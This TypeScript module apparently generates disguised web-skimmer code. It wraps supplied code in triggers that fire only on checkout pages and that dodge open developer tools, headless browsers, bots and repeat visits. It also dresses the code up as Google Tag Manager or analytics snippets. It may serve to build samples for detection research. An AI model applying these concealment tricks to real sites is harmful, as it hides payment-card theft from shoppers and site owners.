// Owns what a skimmer asks before it acts, and how its code is wrapped.
import type { Chance } from './random.ts'

export const gates = ['none', 'path', 'path-indexof', 'tools', 'client', 'visited', 'hour', 'referrer', 'loaded-field'] as const
export type Gate = (typeof gates)[number]

/** The code behind its question. */
export function gated(way: Gate, code: string, text: (plain: string) => string, chance: Chance): string {
  const words = chance.pick(['checkout', 'onepage', 'checkout|onepage|firecheckout', 'payment', 'onestep', '/cart|/checkout'])
  const [first = words] = words.split('|')
  switch (way) {
    case 'path':
      return `if(new RegExp(${text(words)},"i").test(window.location.${chance.pick(['href', 'pathname'])})){${code}}`
    case 'path-indexof':
      return `if(location.href.indexOf(${text(first)})>${chance.pick(['-1', '0'])}){${code}}`
    case 'tools':
      return `if(!(window.outerWidth-window.innerWidth>160||window.outerHeight-window.innerHeight>160||(window.Firebug&&window.Firebug.chrome))){${code}}`
    case 'client':
      return `if(!navigator.webdriver&&!/bot|headless|lighthouse/i.test(navigator.userAgent)){${code}}`
    case 'visited':
      return `if(document.cookie.indexOf("${chance.pick(['_seen', '__st', 'sid2'])}=1")<0){${code}}`
    case 'hour':
      return `if(new Date().getHours()>${chance.between(5, 9)}){${code}}`
    case 'referrer':
      return `if(document.referrer.indexOf(location.hostname)>=0){${code}}`
    case 'loaded-field':
      return `var ready=setInterval(function(){if(document.querySelector("input")){clearInterval(ready);${code}}},300);`
    default:
      return code
  }
}

export const wraps = ['bare', 'function', 'on-load', 'dom-ready', 'tag-manager', 'analytics', 'class', 'async'] as const
export type Wrap = (typeof wraps)[number]

/** The code in the dress of an ordinary script. */
export function wrapped(way: Wrap, code: string, chance: Chance): string {
  const [a, b] = [chance.name(), chance.name()]
  switch (way) {
    case 'function':
      return `(function(){${code}})();`
    case 'on-load':
      return `window.addEventListener("load",function(){${code}});`
    case 'dom-ready':
      return `document.addEventListener("DOMContentLoaded",function(){${code}});`
    case 'tag-manager':
      return `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({"gtm.start":new Date().getTime(),event:"gtm.js"});${code}})(window,document,"script","dataLayer","GTM-${chance.between(100, 999)}X");`
    case 'analytics':
      return `var _gaq=_gaq||[];_gaq.push(["_setAccount","UA-${chance.between(1e6, 9e6)}-1"]);_gaq.push(["_trackPageview"]);(function(){${code}})();`
    case 'class':
      return `class ${a.replace(/^[^A-Za-z_]/, 'C')} {constructor(){this.run()}run(){${code}}}new ${a.replace(/^[^A-Za-z_]/, 'C')}();`
    case 'async':
      return `(async()=>{await new Promise(function(${b}){setTimeout(${b},${chance.between(10, 900)})});${code}})();`
    default:
      return code
  }
}
